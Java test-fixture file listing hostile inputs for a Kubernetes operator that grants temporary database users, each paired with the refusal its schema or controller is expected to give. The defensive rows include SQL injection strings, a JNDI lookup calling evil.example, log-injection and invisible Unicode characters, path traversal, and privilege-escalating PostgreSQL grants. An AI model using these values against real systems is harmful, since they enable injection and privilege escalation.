package dev.tempdb.api.v1alpha1;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.util.ArrayList;
import java.util.List;
import java.util.function.Consumer;
import java.util.stream.Stream;

/**
 * Hostile or broken inputs, each with where it must be refused: by the API server (the CRD's schema
 * and CEL rules, checked offline by {@code HostileInputsSchemaTest}) and by the operator itself
 * (the controller's {@code HostileInputsIT} runs every row against the real operator, whose mock
 * API server enforces no schema). A row edits one valid spec of its kind; where the operator
 * refuses, its message names {@link Row#field} and holds {@link Row#fix}.
 */
public final class HostileInputs {
  private static final ObjectMapper JSON = new ObjectMapper();

  /** What the row's edit is applied to. */
  public enum Kind {
    /** A new TemporaryDbAccess on the row suite's read-only target. */
    REQUEST,
    /** A new AccessTarget of the row's own, and a request on it. */
    TARGET,
    /** A new DatabaseServer of the row's own, a target on it and a request on that. */
    SERVER,
    /** An update of a TemporaryDbAccess that is already Active. */
    EDIT
  }

  /** What the operator must make of the row. */
  public enum Outcome {
    /** The request is Failed at once, nothing created. */
    REQUEST_FAILED,
    /** The request waits (Pending), nothing created. */
    REQUEST_PENDING,
    /** The row's target is Ready=False; its request waits, nothing created. */
    TARGET_NOT_READY,
    /** The row's server is Ready=False; its target is not Ready; its request waits. */
    SERVER_NOT_READY,
    /** Accepted: the request is granted. */
    ACTIVE,
    /** The edit is refused by the operator; access continues as granted. */
    CHANGE_REFUSED,
    /**
     * The row's target is Ready (SQL is opaque to the schema) but its grant SQL gives what no
     * temporary user may hold: the request is Failed, the grant rolled back, nothing left.
     */
    GRANT_REFUSED
  }

  /**
   * @param schemaRefuses a fragment of the API server's refusal, or null when the schema accepts
   * @param field what the operator's message names (null for {@link Outcome#ACTIVE})
   * @param fix a fragment of the operator's message saying what to do instead
   */
  public record Row(
      String id,
      Kind kind,
      Consumer<ObjectNode> edit,
      String schemaRefuses,
      Outcome outcome,
      String field,
      String fix) {
    @Override
    public String toString() {
      return kind + " " + id;
    }
  }

  private HostileInputs() {}

  public static List<Row> rows() {
    List<Row> rows = new ArrayList<>();
    rows.addAll(refusedRequesters());
    rows.addAll(acceptedRequesters());
    rows.addAll(leases());
    rows.addAll(otherRequestFields());
    rows.addAll(targets());
    rows.addAll(grantSql());
    rows.addAll(servers());
    rows.addAll(edits());
    return rows;
  }

  public static Stream<Row> rows(Kind kind) {
    return rows().stream().filter(r -> r.kind() == kind);
  }

  // --- valid specs the rows edit

  /** A valid request spec on {@code target}. */
  public static ObjectNode requestSpec(String target) {
    ObjectNode spec = JSON.createObjectNode();
    spec.put("target", target);
    spec.put("requester", "dana.lee@acme-corp.example");
    spec.put("reason", "hostile input test");
    spec.put("ttl", "1h");
    return spec;
  }

  /** A valid TemporaryUser target spec on {@code server}, at most 8h. */
  public static ObjectNode targetSpec(String server, String grantSql) {
    ObjectNode spec = JSON.createObjectNode();
    spec.put("server", server);
    spec.putObject("grant").put("inline", grantSql);
    spec.put("defaultTtl", "1h");
    spec.put("maxTtl", "8h");
    return spec;
  }

  /** A valid PostgreSQL server spec. */
  public static ObjectNode serverSpec(int port, String database, String adminSecret) {
    ObjectNode spec = JSON.createObjectNode();
    spec.put("engine", "postgresql");
    spec.put("host", "127.0.0.1");
    spec.put("port", port);
    spec.put("database", database);
    spec.putObject("adminCredentials").put("secretName", adminSecret);
    spec.putObject("tls").put("mode", "disable");
    return spec;
  }

  /** A whole resource of {@code kind} around {@code spec}. */
  public static ObjectNode resource(String kind, String namespace, String name, ObjectNode spec) {
    ObjectNode resource = JSON.createObjectNode();
    resource.put("apiVersion", ApiConstants.GROUP + "/" + ApiConstants.VERSION);
    resource.put("kind", kind);
    resource.putObject("metadata").put("name", name).put("namespace", namespace);
    resource.set("spec", spec);
    return resource;
  }

  // --- the rows

  private static final String ALLOWED = "it may hold letters and digits";

  private static List<Row> refusedRequesters() {
    List<Row> rows = new ArrayList<>();
    String[][] values = {
      {"NUL byte", "dana\u0000@acme.example"},
      {"carriage return", "dana\r@acme.example"},
      {"line feed (log injection)", "dana@acme.example\nINFO Granted admin to mallory"},
      {"tab", "dana\t@acme.example"},
      {"space", "dana lee@acme.example"},
      {"no-break space", "dana\u00a0lee@acme.example"},
      {"line separator", "dana\u2028@acme.example"},
      {"right-to-left override", "dana\u202e@acme.example"},
      {"left-to-right override", "\u202ddana@acme.example"},
      {"bidi isolate", "dana\u2066@acme.example"},
      {"zero-width space", "da\u200bna@acme.example"},
      {"zero-width joiner", "da\u200dna@acme.example"},
      {"byte order mark", "\ufeffdana@acme.example"},
      {"soft hyphen", "da\u00adna@acme.example"},
      {"DEL", "dana\u007f@acme.example"},
      {"escape sequence", "dana\u001b[31m@acme.example"},
      {"single quote", "o'brien@acme.example"},
      {"double quote", "dana\"@acme.example"},
      {"backslash", "dana\\@acme.example"},
      {"backtick", "dana`id`@acme.example"},
      {"IAM wildcard *", "*@acme.example"},
      {"IAM wildcard * inside", "dana*@acme.example"},
      {"IAM wildcard ?", "dan?@acme.example"},
      {"percent (AWS tags refuse it)", "o_brien%ops@acme.example"},
      {"semicolon", "dana;@acme.example"},
      {"comma", "dana,sam@acme.example"},
      {"equals", "dana=admin@acme.example"},
      {"slash", "dana/../admin@acme.example"},
      {"colon", "dana:x@acme.example"},
      {"hash", "dana#1@acme.example"},
      {"dollar", "dana$@acme.example"},
      {"ampersand", "dana&sam@acme.example"},
      {"pipe", "dana|id@acme.example"},
      {"angle brackets", "<script>@acme.example"},
      {"braces (template)", "{username}@acme.example"},
      {"JNDI lookup", "${jndi:ldap://evil.example/a}"},
      {"SQL injection", "x'; DROP ROLE postgres; --"},
      {"emoji", "dana\ud83d\ude00@acme.example"},
      {"leading dot", ".dana@acme.example"},
      {"leading hyphen", "-dana@acme.example"},
      {"leading at sign", "@acme.example"},
      {"leading underscore", "_dana@acme.example"},
      {"leading combining mark", "\u0301dana@acme.example"},
      {"255 characters", "a".repeat(242) + "@acme.example"},
    };
    for (String[] v : values) {
      rows.add(
          new Row(
              "requester with " + v[0],
              Kind.REQUEST,
              s -> s.put("requester", v[1]),
              "spec.requester",
              Outcome.REQUEST_FAILED,
              "spec.requester",
              ALLOWED));
    }
    rows.add(
        new Row(
            "empty requester",
            Kind.REQUEST,
            s -> s.put("requester", ""),
            "spec.requester",
            Outcome.REQUEST_FAILED,
            "spec.requester",
            "set it to who the access is for"));
    rows.add(
        new Row(
            "missing requester",
            Kind.REQUEST,
            s -> s.remove("requester"),
            "requester",
            Outcome.REQUEST_FAILED,
            "spec.requester",
            "set it to who the access is for"));
    return rows;
  }

  private static List<Row> acceptedRequesters() {
    List<Row> rows = new ArrayList<>();
    String[][] values = {
      {"diaeresis and plus", "zoë+ops@acme.example"},
      {"accents", "dänä.lée@acme.example"},
      {"Japanese", "日本語@acme.example"},
      {"Greek", "Ελένη@acme.example"},
      {"decomposed diaeresis (combining mark)", "zoe\u0308@acme.example"},
      {"Arabic-Indic digits", "\u0661\u0662\u0663@acme.example"},
      {"dots, hyphen, underscore", "O.Brien-Smith_2@sub.acme.example"},
      {"254 characters", "a".repeat(241) + "@acme.example"},
    };
    for (String[] v : values) {
      rows.add(
          new Row(
              "requester " + v[0],
              Kind.REQUEST,
              s -> s.put("requester", v[1]),
              null,
              Outcome.ACTIVE,
              null,
              null));
    }
    return rows;
  }

  private static List<Row> leases() {
    String duration = "is not a duration; use hours, minutes and seconds";
    return List.of(
        ttl("zero ttl", "0s", null, "must be longer than zero"),
        ttl("negative ttl", "-1h", "spec.ttl", duration),
        ttl("unknown unit", "1x", "spec.ttl", duration),
        ttl("empty ttl", "", "spec.ttl", duration),
        ttl("fractional ttl", "1.5h", "spec.ttl", duration),
        ttl("ISO 8601 ttl", "PT1H", "spec.ttl", duration),
        ttl("ttl with a space", "1 h", "spec.ttl", duration),
        ttl("seven-digit ttl", "9999999h", "spec.ttl", duration),
        ttl("ttl over maxTtl", "9h", null, "request at most 8h"),
        ttl("ttl over maxTtl by a second", "480m1s", null, "request at most 8h"),
        expiresAt("expiresAt not a time", "tomorrow", "spec.expiresAt", "is not an RFC 3339"),
        expiresAt(
            "expiresAt with impossible fields",
            "2026-13-45T99:99:99Z",
            null,
            "is not an RFC 3339 time"),
        expiresAt("expiresAt in the past", "2020-01-01T00:00:00Z", null, "is not after"),
        expiresAt("expiresAt beyond maxTtl", "2999-01-01T00:00:00Z", null, "maxTtl"),
        new Row(
            "both ttl and expiresAt",
            Kind.REQUEST,
            s -> s.put("expiresAt", "2999-01-01T00:00:00Z"),
            "set at most one of ttl or expiresAt",
            Outcome.REQUEST_FAILED,
            "spec.ttl",
            "set either ttl or expiresAt"));
  }

  private static Row ttl(String id, String value, String schemaRefuses, String fix) {
    return new Row(
        id,
        Kind.REQUEST,
        s -> s.put("ttl", value),
        schemaRefuses,
        Outcome.REQUEST_FAILED,
        "spec.ttl",
        fix);
  }

  private static Row expiresAt(String id, String value, String schemaRefuses, String fix) {
    return new Row(
        id,
        Kind.REQUEST,
        s -> {
          s.remove("ttl");
          s.put("expiresAt", value);
        },
        schemaRefuses,
        Outcome.REQUEST_FAILED,
        "spec.expiresAt",
        fix);
  }

  private static List<Row> otherRequestFields() {
    String target = "name an AccessTarget";
    return List.of(
        new Row(
            "missing target",
            Kind.REQUEST,
            s -> s.remove("target"),
            "target",
            Outcome.REQUEST_FAILED,
            "spec.target",
            target),
        request("upper-case target", "target", "READONLY", "spec.target", target),
        request("target with a slash", "target", "a/b", "spec.target", target),
        request("target climbing paths", "target", "../secrets", "spec.target", target),
        request("target with SQL", "target", "x';--", "spec.target", target),
        new Row(
            "target that does not exist",
            Kind.REQUEST,
            s -> s.put("target", "no-such-target"),
            null,
            Outcome.REQUEST_PENDING,
            "spec.target",
            "does not exist"),
        new Row(
            "empty delivery",
            Kind.REQUEST,
            s -> s.putArray("delivery"),
            "spec.delivery",
            Outcome.REQUEST_FAILED,
            "spec.delivery",
            "must list one or two"));
  }

  private static Row request(String id, String field, String value, String refuses, String fix) {
    return new Row(
        id,
        Kind.REQUEST,
        s -> s.put(field, value),
        refuses,
        Outcome.REQUEST_FAILED,
        "spec." + field,
        fix);
  }

  private static List<Row> targets() {
    return List.of(
        target(
            "defaultTtl over maxTtl",
            s -> s.put("defaultTtl", "9h"),
            "defaultTtl must not be longer than maxTtl",
            "spec.defaultTtl",
            "shorten defaultTtl or raise maxTtl"),
        target(
            "zero maxTtl",
            s -> s.put("maxTtl", "0s"),
            "defaultTtl must not be longer than maxTtl",
            "spec.maxTtl",
            "must be longer than zero"),
        target(
            "defaultTtl not a duration",
            s -> s.put("defaultTtl", "forever"),
            "spec.defaultTtl",
            "spec.defaultTtl",
            "is not a duration"),
        target(
            "connectionLimit 0",
            s -> s.put("connectionLimit", 0),
            "connectionLimit 0 would create users that can never log in",
            "spec.connectionLimit",
            "set 1 to 1000, or -1"),
        target(
            "connectionLimit -2",
            s -> s.put("connectionLimit", -2),
            "spec.connectionLimit",
            "spec.connectionLimit",
            "set 1 to 1000, or -1"),
        target(
            "connectionLimit 1001",
            s -> s.put("connectionLimit", 1001),
            "spec.connectionLimit",
            "spec.connectionLimit",
            "set 1 to 1000, or -1"),
        target(
            "hostPattern with SQL",
            s -> s.put("hostPattern", "%'; DROP USER root; --"),
            "spec.hostPattern",
            "spec.hostPattern",
            "e.g. 10.0.%"),
        target(
            "hostPattern with a space",
            s -> s.put("hostPattern", "10.0.% or 1=1"),
            "spec.hostPattern",
            "spec.hostPattern",
            "e.g. 10.0.%"),
        target(
            "RoleGrant without roles",
            s -> {
              s.remove("grant");
              s.put("strategy", "RoleGrant");
            },
            "roles is required with strategy RoleGrant",
            "spec.roles",
            "list the roles to grant"),
        target(
            "RoleGrant role with SQL",
            s -> {
              s.remove("grant");
              s.put("strategy", "RoleGrant");
              s.putArray("roles").add("analyst; DROP ROLE postgres");
            },
            "spec.roles",
            "spec.roles",
            "is not a role name"),
        target(
            "TemporaryUser without grant",
            s -> s.remove("grant"),
            "grant is required with strategy TemporaryUser",
            "spec.grant",
            "requires the SQL"),
        target(
            "allowedPrivileges on RoleGrant",
            s -> {
              s.remove("grant");
              s.put("strategy", "RoleGrant");
              s.putArray("roles").add("analyst");
              s.putArray("allowedPrivileges").add("SUPERUSER");
            },
            "allowedPrivileges is for strategy TemporaryUser",
            "spec.allowedPrivileges",
            "remove it"),
        target(
            "allowedPrivileges not a privilege name",
            s -> s.putArray("allowedPrivileges").add("SUPER; DROP"),
            "spec.allowedPrivileges",
            "spec.allowedPrivileges",
            "use names such as CREATEDB"),
        target(
            "missing server",
            s -> s.remove("server"),
            "server",
            "spec.server",
            "must name a DatabaseServer"),
        target(
            "server that does not exist",
            s -> s.put("server", "no-such-server"),
            null,
            "spec.server",
            "create it or fix spec.server"),
        target(
            "grant ConfigMap that does not exist",
            s -> {
              s.remove("grant");
              s.putObject("grant")
                  .putObject("configMapKeyRef")
                  .put("name", "no-such-configmap")
                  .put("key", "grant.sql");
            },
            null,
            "spec.grant.configMapKeyRef",
            "not found in namespace"),
        target(
            "delivery the operator does not serve",
            s -> s.putArray("delivery").add("AwsSecretsManager"),
            null,
            "spec.delivery",
            "set TEMPDB_AWS_ENABLED=true"));
  }

  private static Row target(
      String id, Consumer<ObjectNode> edit, String schemaRefuses, String field, String fix) {
    return new Row(id, Kind.TARGET, edit, schemaRefuses, Outcome.TARGET_NOT_READY, field, fix);
  }

  /**
   * Grant SQL run as the (superuser) admin of the tests' PostgreSQL, giving the new user what the
   * privilege check must refuse. {@code tempdb_admin} is that admin.
   */
  private static List<Row> grantSql() {
    String fix = "Remove them from spec.grant, or list them in spec.allowedPrivileges";
    String[][] refused = {
      {"SUPERUSER", "ALTER ROLE {username} SUPERUSER", "SUPERUSER (directly)"},
      {"CREATEROLE", "ALTER ROLE {username} CREATEROLE", "CREATEROLE (directly)"},
      {"CREATEDB", "ALTER ROLE {username} CREATEDB", "CREATEDB (directly)"},
      {"REPLICATION", "ALTER ROLE {username} REPLICATION", "REPLICATION (directly)"},
      {"BYPASSRLS", "ALTER ROLE {username} BYPASSRLS", "BYPASSRLS (directly)"},
      {"membership of the admin", "GRANT tempdb_admin TO {username}", "ADMIN_ROLE"},
      {
        "pg_execute_server_program",
        "GRANT pg_execute_server_program TO {username}",
        "PG_EXECUTE_SERVER_PROGRAM"
      },
      {"pg_read_server_files", "GRANT pg_read_server_files TO {username}", "PG_READ_SERVER_FILES"},
      {
        "pg_write_server_files",
        "GRANT pg_write_server_files TO {username}",
        "PG_WRITE_SERVER_FILES"
      },
      {"pg_signal_backend", "GRANT pg_signal_backend TO {username}", "PG_SIGNAL_BACKEND"},
      {
        "a group role that may create roles",
        "CREATE ROLE hostile_group NOLOGIN CREATEROLE; GRANT hostile_group TO {username}",
        "CREATEROLE (through role hostile_group)"
      },
      {
        "a role WITH ADMIN OPTION",
        "GRANT pg_monitor TO {username} WITH ADMIN OPTION",
        "ADMIN OPTION"
      },
    };
    List<Row> rows = new ArrayList<>();
    for (String[] r : refused) {
      rows.add(
          new Row(
              "grant SQL giving " + r[0],
              Kind.TARGET,
              s -> s.putObject("grant").put("inline", r[1]),
              null,
              Outcome.GRANT_REFUSED,
              r[2],
              fix));
    }
    rows.add(
        new Row(
            "grant SQL naming a table that does not exist",
            Kind.TARGET,
            s -> s.putObject("grant").put("inline", "GRANT SELECT ON hostile.nope TO {username}"),
            null,
            Outcome.GRANT_REFUSED,
            "grant SQL failed",
            "does not exist"));
    rows.add(
        new Row(
            "grant SQL giving CREATEDB that the target allows",
            Kind.TARGET,
            s -> {
              s.putObject("grant").put("inline", "ALTER ROLE {username} CREATEDB");
              s.putArray("allowedPrivileges").add("createdb");
            },
            null,
            Outcome.ACTIVE,
            null,
            null));
    return rows;
  }

  private static List<Row> servers() {
    String host = "is not a host name or IP address: use a host name";
    String database = "is not a database name: use 1 to 63 of the letters";
    return List.of(
        server(
            "database turning TLS off",
            s -> s.put("database", s.get("database").asText() + "?sslmode=disable"),
            "spec.database",
            "spec.database",
            database),
        server(
            "database climbing paths",
            s -> s.put("database", "app/../postgres"),
            "spec.database",
            "spec.database",
            database),
        server(
            "database with a quote",
            s -> s.put("database", "app'--"),
            "spec.database",
            "spec.database",
            database),
        server(
            "host carrying a URL",
            s -> s.put("host", "127.0.0.1:5432/postgres?sslmode=disable&"),
            "spec.host",
            "spec.host",
            host),
        server(
            "host with a second host",
            s -> s.put("host", "127.0.0.1,evil.example"),
            "spec.host",
            "spec.host",
            host),
        server(
            "host with a login",
            s -> s.put("host", "admin@127.0.0.1"),
            "spec.host",
            "spec.host",
            host),
        server("host with a space", s -> s.put("host", "db host"), "spec.host", "spec.host", host),
        server(
            "host label starting with a hyphen",
            s -> s.put("host", "-bad-"),
            "spec.host",
            "spec.host",
            host),
        server("empty host", s -> s.put("host", ""), "spec.host", "spec.host", "is missing"),
        server("port 0", s -> s.put("port", 0), "spec.port", "spec.port", "1 to 65535"),
        server("port 70000", s -> s.put("port", 70000), "spec.port", "spec.port", "1 to 65535"),
        server(
            "publishedHost carrying a URL",
            s -> s.put("publishedHost", "db.example/x?sslmode=disable"),
            "spec.publishedHost",
            "spec.publishedHost",
            host),
        server(
            "empty userPrefix",
            s -> s.put("userPrefix", ""),
            "spec.userPrefix",
            "spec.userPrefix",
            "e.g. tdb_"),
        server(
            "upper-case userPrefix",
            s -> s.put("userPrefix", "TDB_"),
            "spec.userPrefix",
            "spec.userPrefix",
            "e.g. tdb_"),
        server(
            "userPrefix without the underscore",
            s -> s.put("userPrefix", "x"),
            "spec.userPrefix",
            "spec.userPrefix",
            "e.g. tdb_"),
        server(
            "reassignOwnedTo with SQL",
            s -> s.put("reassignOwnedTo", "x\"; DROP ROLE postgres; --"),
            "spec.reassignOwnedTo",
            "spec.reassignOwnedTo",
            "or be left out"));
  }

  private static Row server(
      String id, Consumer<ObjectNode> edit, String schemaRefuses, String field, String fix) {
    return new Row(id, Kind.SERVER, edit, schemaRefuses, Outcome.SERVER_NOT_READY, field, fix);
  }

  private static List<Row> edits() {
    String immutable = "Delete this request and create a new one";
    return List.of(
        edit(
            "target changed after Active",
            s -> s.put("target", "hostile-other"),
            "target is immutable",
            "spec.target",
            immutable),
        edit(
            "requester changed after Active",
            s -> s.put("requester", "mallory@acme.example"),
            "requester is immutable",
            "spec.requester",
            immutable),
        edit(
            "delivery added after Active",
            s -> s.putArray("delivery").add("KubernetesSecret").add("AwsSecretsManager"),
            "delivery is immutable",
            "spec.delivery",
            immutable),
        edit(
            "requestId added after Active",
            s -> s.put("requestId", "another-run"),
            "requestId is immutable",
            "spec.requestId",
            immutable),
        edit(
            "ttl raised over maxTtl after Active",
            s -> s.put("ttl", "9h"),
            null,
            "spec.ttl",
            "request at most 8h"),
        new Row(
            "ttl raised within maxTtl after Active",
            Kind.EDIT,
            s -> s.put("ttl", "2h"),
            null,
            Outcome.ACTIVE,
            null,
            null),
        new Row(
            "reason changed after Active",
            Kind.EDIT,
            s -> s.put("reason", "another ticket"),
            null,
            Outcome.ACTIVE,
            null,
            null));
  }

  private static Row edit(
      String id, Consumer<ObjectNode> edit, String schemaRefuses, String field, String fix) {
    return new Row(id, Kind.EDIT, edit, schemaRefuses, Outcome.CHANGE_REFUSED, field, fix);
  }
}
